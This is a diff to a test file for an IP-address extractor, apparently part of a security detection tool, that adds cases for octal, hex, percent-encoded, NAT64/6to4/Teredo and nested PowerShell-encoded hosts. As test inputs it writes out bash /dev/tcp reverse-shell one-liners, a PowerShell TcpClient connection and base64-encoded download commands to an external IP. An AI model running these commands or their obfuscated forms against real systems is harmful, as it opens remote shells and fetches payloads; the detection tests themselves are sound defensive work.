@@ -33,7 +33,7 @@ describe('extractAddresses', () => {
     expect(extractAddresses('ping 8.8.8.8.')[0]).toMatchObject({ address: '8.8.8.8', raw: '8.8.8.8' });
   });
 
-  it('skips version strings, OIDs, invalid octets and zero-padded parts', () => {
+  it('skips version strings, OIDs, invalid octets and version-style zero padding', () => {
     for (const line of [
       'C:\\WindowsAzure\\WindowsAzureNetAgent_1.0.0.178\\WindowsAzureNetAgent.exe',
       'update.exe 1.3.00.217',
@@ -45,6 +45,8 @@ describe('extractAddresses', () => {
       '"C:\\Program Files\\App\\5.4.3.2\\app.exe"',
       'Install-Module Az -RequiredVersion 11.1.0.0',
       'ping 8.8.8.8.nip.io',
+      'OneDriveSetup.exe /update 19.002.0107.0005',
+      'ping 08.1.1.1',
     ]) {
       expect(addresses(line), line).toEqual([]);
     }
@@ -68,6 +70,24 @@ describe('extractAddresses', () => {
     ]);
   });
 
+  it('reports NAT64 addresses as the IPv4 host the translator reaches, classified by it', () => {
+    expect(extractAddresses('ping 64:ff9b::2d09:9403')).toEqual([
+      { address: '45.9.148.3', raw: '64:ff9b::2d09:9403', offset: 5, encoding: 'ipv6', kind: 'external' },
+    ]);
+    expect(extractAddresses('curl http://[64:ff9b::10.0.0.1]/')).toMatchObject([{ address: '10.0.0.1', kind: 'private' }]);
+    // The local-use prefix (RFC 8215) is a network-specific translator, not a global name for the IPv4 host.
+    expect(extractAddresses('ping 64:ff9b:1::2d09:9403')).toMatchObject([{ address: '64:ff9b:1::2d09:9403', kind: 'special-purpose' }]);
+  });
+
+  it('reports 6to4 and Teredo addresses as the IPv6 host, classified by the IPv4 router or client they embed', () => {
+    expect(extractAddresses('ping 2002:2d09:9403::1')).toMatchObject([{ address: '2002:2d09:9403::1', kind: 'external' }]);
+    expect(extractAddresses('ping 2002:a00:1::1')).toMatchObject([{ address: '2002:a00:1::1', kind: 'private' }]);
+    // Teredo client 45.9.148.3 is stored inverted in the last 32 bits.
+    expect(extractAddresses('ping 2001:0:4136:e378:8000:63bf:d2f6:6bfc')).toMatchObject([
+      { address: '2001:0:4136:e378:8000:63bf:d2f6:6bfc', kind: 'external' },
+    ]);
+  });
+
   it('reads Windows ipv6-literal.net UNC hosts', () => {
     expect(extractAddresses('dir \\\\fe80--1s4.ipv6-literal.net\\c$')).toEqual([
       { address: 'fe80::1', raw: 'fe80--1s4.ipv6-literal.net', offset: 6, encoding: 'ipv6', kind: 'link-local' },
@@ -87,6 +107,83 @@ describe('extractAddresses', () => {
     expect(addresses('curl http://0xdeadbeef.example.com/')).toEqual([]);
   });
 
+  it('finds hosts of bash /dev/tcp and /dev/udp redirections, in every numeric form', () => {
+    expect(extractAddresses('bash -i >& /dev/tcp/45.9.148.3/4444 0>&1')).toEqual([
+      { address: '45.9.148.3', raw: '45.9.148.3', offset: 20, encoding: 'dotted', kind: 'external' },
+    ]);
+    expect(addresses('sh -i >& /dev/udp/45.9.148.3/53 0>&1')).toEqual(['45.9.148.3']);
+    expect(extractAddresses('bash -i >& /dev/tcp/0x2d099403/4444 0>&1')).toMatchObject([{ address: '45.9.148.3', encoding: 'hex' }]);
+    expect(extractAddresses('exec 3<>/dev/tcp/755602435/80')).toMatchObject([{ address: '45.9.148.3', encoding: 'decimal' }]);
+    expect(addresses('bash -i >& /dev/tcp/2a01:4f8::10/4444')).toEqual(['2a01:4f8::10']);
+    // Only bash's lowercase paths are network redirections; other path components stay version folders.
+    expect(addresses('cat /DEV/TCP/45.9.148.3/80 /opt/app/45.9.148.3/x')).toEqual([]);
+  });
+
+  it('finds hosts of Windows long-path UNC prefixes', () => {
+    expect(extractAddresses('copy \\\\?\\UNC\\45.9.148.3\\share\\x.exe .')).toMatchObject([{ address: '45.9.148.3', offset: 13 }]);
+    expect(addresses('type \\\\.\\unc\\45.9.148.3\\c$\\x.txt')).toEqual(['45.9.148.3']);
+    expect(addresses('"\\??\\UNC\\45.9.148.3\\tools\\run.exe" -q')).toEqual(['45.9.148.3']);
+    expect(extractAddresses('dir \\\\?\\UNC\\0x2d099403\\c$')).toMatchObject([{ address: '45.9.148.3', encoding: 'hex' }]);
+    expect(addresses('dir \\\\?\\UNC\\2a01-4f8--10.ipv6-literal.net\\c$')).toEqual(['2a01:4f8::10']);
+    expect(addresses('dir \\\\?\\C:\\App\\5.4.3.2\\')).toEqual([]);
+  });
+
+  it('finds an address glued to a one-letter switch that starts its own word', () => {
+    expect(extractAddresses('mysql -h45.9.148.3 -uroot')).toMatchObject([{ address: '45.9.148.3', offset: 8 }]);
+    expect(addresses('ping -n 1 /S45.9.148.3')).toEqual(['45.9.148.3']);
+    expect(addresses('x /s:45.9.148.3')).toEqual(['45.9.148.3']);
+    // Not a switch: glued to a longer word or inside one; `-v` glued to a quad is a version.
+    expect(addresses('x --h45.9.148.3 a-h45.9.148.3 setup.exe -v1.2.3.4')).toEqual([]);
+  });
+
+  it('reads percent-encoded URL hosts and never reports an address assembled from the digits of an escape', () => {
+    // `%34%35` is `45`: the address is 45.9.148.3, and the digits 35 of the second escape are not the first octet.
+    expect(extractAddresses('curl http://%34%35.9.148.3/a')).toEqual([
+      { address: '45.9.148.3', raw: '%34%35.9.148.3', offset: 12, encoding: 'dotted', kind: 'external' },
+    ]);
+    expect(addresses('curl http://1%30.20.30.40/')).toEqual(['10.20.30.40']);
+    expect(addresses('curl http://%31%30.20.30.40/')).toEqual(['10.20.30.40']);
+    expect(addresses('curl http://%34%35%2e%39%2E%31%34%38%2e%33/a')).toEqual(['45.9.148.3']);
+    expect(extractAddresses('curl http://%30x2d099403/')).toMatchObject([{ address: '45.9.148.3', encoding: 'hex' }]);
+    // An escape after the quad continues the host: `45.9.148.3%31` is 45.9.148.31.
+    expect(addresses('curl http://45.9.148.3%31/')).toEqual(['45.9.148.31']);
+    // Escapes that encode separators are read as separators, outside URL hosts too.
+    expect(addresses('curl "https://x.example/r?u=http%3A%2F%2F45.9.148.3%2Fa&q=ping%2045.9.148.4%20"')).toEqual(['45.9.148.3', '45.9.148.4']);
+    expect(addresses('echo 100%2545.9.148.3')).toEqual(['45.9.148.3']);
+    // An invalid escape makes the host invalid, and an IPv6 run that starts inside an escape is not an address.
+    expect(addresses('curl http://%zz45.9.148.3/ http://x/%2a01:4f8::1')).toEqual([]);
+  });
+
+  it('reads zero-padded quads as the resolver does (octal), and URL hosts with any number of leading zeros', () => {
+    expect(extractAddresses('ping 010.1.1.1')).toEqual([
+      { address: '8.1.1.1', raw: '010.1.1.1', offset: 5, encoding: 'octal', kind: 'external' },
+    ]);
+    expect(extractAddresses('ping 192.168.001.010')).toMatchObject([{ address: '192.168.1.8', kind: 'private' }]);
+    expect(extractAddresses('ping 0300.0250.0.01')).toMatchObject([{ address: '192.168.0.1', kind: 'private' }]);
+    expect(extractAddresses('curl http://010.010.010.010/')).toEqual([
+      { address: '8.8.8.8', raw: '010.010.010.010', offset: 12, encoding: 'octal', kind: 'external' },
+    ]);
+    expect(addresses(`curl http://${'0'.repeat(30)}55.9.148.3/`)).toEqual(['45.9.148.3']);
+    expect(addresses(`curl http://0x${'0'.repeat(30)}2d099403/`)).toEqual(['45.9.148.3']);
+    expect(addresses(`curl http://1.3.00.217/ http://${'0'.repeat(30000)}177.1/`)).toEqual(['1.3.0.217', '127.0.0.1']);
+    expect(addresses('curl http://0400.1.1.1/ http://0x100000000/')).toEqual([]);
+  });
+
+  it('skips quads in PowerShell and Python version code', () => {
+    for (const line of [
+      "if ($PSVersionTable.PSVersion -ge [version]'5.1.0.0') {}",
+      '[System.Version]::Parse("2.8.5.201")',
+      "[version]('1.2.3.4')",
+      'if ($m.Version -lt [Version]\\"2.2.5.1\\") {}',
+      "if ($v -ge '8.0.50.0') {}",
+      "Version('1.2.3.4') > LooseVersion('1.2.3.3')",
+      "pip install 'urllib3<2.0.0.0'",
+    ]) {
+      expect(addresses(line), line).toEqual([]);
+    }
+    expect(addresses("$c=New-Object Net.Sockets.TcpClient('45.9.148.3',443); [version]'5.1.0.0'")).toEqual(['45.9.148.3']);
+  });
+
   it('decodes PowerShell -EncodedCommand payloads and reports the payload offset', () => {
     const payload = Buffer.from("iwr http://45.9.148.3/a; ping 10.1.1.1", 'utf16le').toString('base64');
     const line = `powershell -nop -enc ${payload}`;
@@ -102,6 +199,16 @@ describe('extractAddresses', () => {
     const script = `$ser=$([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('${server}')));$wc.DownloadData($ser)`;
     const line = `powershell -w 1 -enc ${Buffer.from(script, 'utf16le').toString('base64')}`;
     expect(extractAddresses(line)).toEqual([{ address: '45.9.148.3', raw: '45.9.148.3', offset: 21, encoding: 'encoded-command', kind: 'external' }]);
+  });
+
+  it('decodes encoded commands nested at any depth, with the outermost payload offset', () => {
+    let line = 'iwr http://45.9.148.3/a';
+    for (let depth = 1; depth <= 8; depth++) {
+      line = `powershell -nop -enc ${Buffer.from(line, 'utf16le').toString('base64')}`;
+      expect(extractAddresses(line), `depth ${depth}`).toEqual([
+        { address: '45.9.148.3', raw: '45.9.148.3', offset: 21, encoding: 'encoded-command', kind: 'external' },
+      ]);
+    }
   });
 
   it('ignores -e arguments that are not UTF-16LE base64', () => {
